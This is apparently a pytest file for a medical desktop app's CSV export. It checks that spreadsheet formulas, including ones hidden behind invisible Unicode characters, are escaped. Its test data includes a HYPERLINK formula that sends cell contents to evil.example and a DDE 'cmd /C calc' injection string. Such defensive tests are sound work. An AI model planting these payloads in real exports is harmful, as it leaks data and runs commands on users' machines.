"""CSV export: text from a file or a person is written verbatim, and nothing a spreadsheet could
run as a formula gets through, whatever invisible characters stand before the ``=``."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from cxr_desktop.core.storage.csv_export import csv_cell as _csv_cell
from cxr_desktop.core.storage.csv_export import starts_like_formula
from cxr_desktop.core.storage.sqlite import SqliteHistory as History
from tests.core.storage.helpers import make_reading

#: What can stand, unseen or skipped, before the formula sign.
INVISIBLE_PREFIXES = {
    "space": " ",
    "spaces": "   ",
    "no-break space": "\u00a0",
    "narrow no-break space": "\u202f",
    "ideographic space": "\u3000",
    "em space": "\u2003",
    "zero-width space": "\u200b",
    "zero-width non-joiner": "\u200c",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "left-to-right mark": "\u200e",
    "right-to-left override": "\u202e",
    "soft hyphen": "\u00ad",
    "combining grapheme joiner": "\u034f",
    "Hangul filler": "\u3164",
    "Braille blank": "\u2800",
    "newline": "\n",
    "CR LF": "\r\n",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "vertical tab": "\x0b",
    "form feed": "\x0c",
    "NUL": "\x00",
    "tab": "\t",
    "mixed": " \u200b\u00a0\n\ufeff ",
}
FORMULA_SIGNS = {
    "equals": "=", "plus": "+", "minus": "-", "at": "@",
    "full-width equals": "\uff1d", "small equals": "\ufe66", "full-width plus": "\uff0b",
    "full-width at": "\uff20", "minus sign": "\u2212",
}
PAYLOAD = 'HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("sign", FORMULA_SIGNS.values(), ids=FORMULA_SIGNS.keys())
@pytest.mark.parametrize("prefix", INVISIBLE_PREFIXES.values(), ids=INVISIBLE_PREFIXES.keys())
def test_formula_behind_invisible_characters_is_escaped(prefix: str, sign: str) -> None:
    text = prefix + sign + PAYLOAD
    assert starts_like_formula(text)
    assert _csv_cell(text) == "'" + text  # escaped, and otherwise verbatim


@pytest.mark.parametrize("sign", FORMULA_SIGNS.values(), ids=FORMULA_SIGNS.keys())
def test_formula_at_the_start_is_escaped(sign: str) -> None:
    assert _csv_cell(sign + PAYLOAD) == "'" + sign + PAYLOAD


@pytest.mark.parametrize("text", ["\tx", "\rx", "\t", "\r"], ids=["tab", "CR", "tab alone", "CR alone"])
def test_tab_or_cr_first_is_escaped_whatever_follows(text: str) -> None:
    assert _csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Doe, Jane", "a=b", "ok-=", " x = 1", "\u200bplain",
                                  "\nline", "2+2", "<img src='x' width=400>", "   "])
def test_ordinary_text_is_written_as_is(text: str) -> None:
    assert not starts_like_formula(text)
    assert _csv_cell(text) == text


def test_numbers_stay_numbers() -> None:
    assert _csv_cell(-2.5) == -2.5 and _csv_cell(-3) == -3 and _csv_cell(None) is None


def test_export_writes_html_verbatim_and_escapes_hidden_formulas(tmp_path: Path) -> None:
    html_id = "<img src='x' width=400 height=400>"
    html_name = "<font size=7 color=red>NORMAL</font>"
    note = "<table><tr><td>\n=1+1</td></tr></table> &amp; \"quoted\", comma"
    with History(tmp_path / "h.sqlite3") as history:
        reading_id = history.add(make_reading(patient_id=html_id, patient_name=html_name,
                                              source_path="/x/<b>name</b>.dcm"))
        history.update_review(reading_id, note=note, confirmed_label=None)
        history.add(make_reading(patient_id="\u00a0=cmd|' /C calc'!A0",
                                 patient_name="\u200b+SUM(A1)", source_path="\n-2+3"))
        out = tmp_path / "out.csv"
        assert history.export_csv(out) == 2
    with open(out, encoding="utf-8-sig", newline="") as handle:
        first, second = list(csv.DictReader(handle))
    assert first["patient_id"] == html_id and first["patient_name"] == html_name
    assert first["note"] == note and first["source_path"] == "/x/<b>name</b>.dcm"
    assert second["patient_id"] == "'\u00a0=cmd|' /C calc'!A0"
    assert second["patient_name"] == "'\u200b+SUM(A1)"
    assert second["source_path"] == "'\n-2+3"
